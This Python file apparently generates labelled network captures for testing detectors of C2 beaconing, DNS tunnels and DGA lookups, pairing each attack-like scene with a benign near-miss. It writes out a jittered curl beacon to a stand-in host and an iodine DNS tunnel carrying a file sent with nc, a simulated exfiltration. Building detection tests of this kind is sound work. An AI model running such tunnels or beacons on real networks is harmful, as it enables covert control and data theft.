# SPDX-License-Identifier: AGPL-3.0-or-later
"""Calls at regular times, tunnels in DNS, invented names."""
import random
import string

import services
import work
from scene import scene
from town import LAN


@scene(
    'beacon/positive',
    'a desk calls an address without a name every minute for an hour, give or take two seconds',
    'curl over TLS every second, with a jitter under 5 %',
    {'tcp.flags.syn==1 && tcp.flags.ack==0 && ip.dst==203.0.113.99': 60},
    seconds=75,
    clock='silences x58',
)
def beacon(make):
    with make(lan=['accueil'], net=['inconnu']) as town:
        services.web(town.inconnu, tls='self')
        dice = random.Random(3)
        waits = ' '.join(f'{1 + dice.uniform(-0.04, 0.04):.3f}' for _ in range(60))
        with town.capture(pause='0.5:58'):
            town.accueil.run(
                f'for w in {waits}; do curl -sk --max-time 3 -o /dev/null https://203.0.113.99/image-0.svg; sleep $w; done',
                timeout=100,
            )


@scene(
    'beacon/near-miss',
    'somebody reads the same news site all the morning, when they have a minute; the desk also asks the time '
    'every 64 seconds, as every desk does',
    'curl over TLS at human moments; chronyd -Q',
    {'tcp.flags.syn==1 && tcp.flags.ack==0 && ip.dst==198.51.100.80': 35, 'ntp': 60},
    seconds=95,
    clock='x64 overall',
)
def reader(make):
    with make(lan=['accueil'], net=['web', 'horloge']) as town:
        services.web(town.web, tls='public')
        services.clock(town)
        dice = random.Random(5)
        waits = ' '.join(f'{min(6, max(0.1, dice.lognormvariate(0.1, 1.1))):.2f}' for _ in range(38))
        with town.capture(factor=64):
            work.together(
                lambda: town.accueil.run(
                    f'for w in {waits}; do curl -sk --max-time 3 -o /dev/null https://198.51.100.80/image-0.svg '
                    'https://198.51.100.80/image-$(echo $w | tail -c 2).svg -o /dev/null; sleep $w; done',
                    timeout=100,
                ),
                lambda: town.accueil.run(
                    'for n in $(seq 32); do chronyd -Q -t 3 "server 198.51.100.123 iburst maxsamples 1" & sleep 1; done; wait',
                    timeout=60,
                ),
            )


@scene(
    'dns-tunnel/positive',
    'a whole network link inside DNS, through the resolver of the town hall',
    'iodine, TXT, base128 names; ping and a file through it',
    {'dns.flags.response==0 && dns.qry.name contains "t.telemetry-sync"': 150, 'dns.qry.name.len > 100': 40},
    seconds=30,
)
def tunnel(make):
    with make(lan=['accueil'], net=['resolver', 'inconnu']) as town:
        services.dns_dhcp(town, extra=['--server=/t.telemetry-sync.example/203.0.113.99'])
        services.internet_dns(town)
        town.inconnu.start(['iodined', '-f', '-c', '-P', 'demo', '10.53.0.1/27', 't.telemetry-sync.example'], port=53, udp=True)
        with town.capture():
            client = town.accueil.start(
                ['iodine', '-f', '-r', '-T', 'TXT', '-m', '160', '-I', '2', '-P', 'demo', f'{LAN}.1', 't.telemetry-sync.example'],
                wait=3,
            )
            town.accueil.run(
                'head -c 16000 /dev/urandom > liste.bin; nc -u -w 1 -q 1 10.53.0.1 9 < liste.bin; '
                'ping -c 100 -i 0.1 -s 100 10.53.0.1',
                timeout=20,
            )
            town.stop(client)


def label(dice, length):
    return ''.join(dice.choice(string.ascii_lowercase + string.digits) for _ in range(length))


@scene(
    'dns-tunnel/near-miss',
    'pages whose pictures come from content networks with long random names that resolve, mail keys (TXT), reverse look-ups',
    'dig through dnsmasq',
    {'dns.flags.response==1 && dns.flags.rcode==0': 60, 'dns.qry.type==16': 5},
    seconds=25,
)
def content_network(make):
    dice = random.Random(11)
    names = [
        f'{label(dice, dice.choice((8, 12, 14)))}.{zone}.example'
        for zone in ('edge-cdn', 'images-cdn', 'static-cache')
        for _ in range(16)
    ]
    keys = [f'selector{n}._domainkey.prefecture.example' for n in range(4)]
    with make(lan=['accueil', 'serveur'], net=['resolver']) as town:
        services.dns_dhcp(town)
        key = label(dice, 220)
        services.internet_dns(
            town,
            [f'--host-record={name},198.51.100.90' for name in names]
            + [f'--txt-record={name},v=DKIM1; k=rsa; p={key}' for name in keys]
            + [f'--ptr-record={n}.100.51.198.in-addr.arpa,hote-{n}.journal.example' for n in range(80, 100)],
        )
        with town.capture():
            for number, name in enumerate(names):
                work.look_up(town.accueil, name)
                if number % 8 == 7:
                    work.sleep(1)
            work.look_up(town.serveur, *(f'{name} TXT' for name in keys))
            work.look_up(town.serveur, *(f'-x 198.51.100.{n}' for n in range(80, 100)))


@scene(
    'dga/positive',
    'a desk asks for 150 invented names, none of which exists',
    'dig with random names under .com .net .org .info',
    {'dns.flags.response==1 && dns.flags.rcode==3': 140},
    seconds=25,
)
def invented(make):
    dice = random.Random(17)
    names = [f'{label(dice, dice.randint(11, 18))}.{dice.choice(("com", "net", "org", "info"))}' for _ in range(150)]
    with make(lan=['accueil'], net=['resolver']) as town:
        services.dns_dhcp(town)
        services.internet_dns(town)
        with town.capture():
            for name in names:
                work.look_up(town.accueil, name)
                work.sleep(0.05)


@scene(
    'dga/near-miss',
    'random names of content networks that resolve, five mistyped names, three probes of a browser at start, and a mail '
    'server that asks a block list about sixty addresses (NXDOMAIN is the good answer)',
    'dig',
    {'dns.flags.response==1 && dns.flags.rcode==3': 60, 'dns.flags.response==1 && dns.flags.rcode==0': 40},
    seconds=25,
)
def looks_invented(make):
    dice = random.Random(19)
    names = [f'{label(dice, 14)}.edge-cdn.example' for _ in range(45)]
    with make(lan=['accueil', 'serveur'], net=['resolver']) as town:
        services.dns_dhcp(town)
        services.internet_dns(town, [f'--host-record={name},198.51.100.90' for name in names])
        with town.capture():
            work.look_up(town.accueil, *(label(dice, 10) for _ in range(3)))
            work.look_up(
                town.accueil,
                *names,
                'www.prefecture.exemple',
                'www.joural.example',
                'intranet.valbourg.exmple',
                'mise-a-jour.example',
                'wwww.journal.example',
            )
            work.look_up(
                town.serveur, *(f'{dice.randint(1, 250)}.{dice.randint(1, 250)}.113.0.zen.blocklist.example' for _ in range(60))
            )
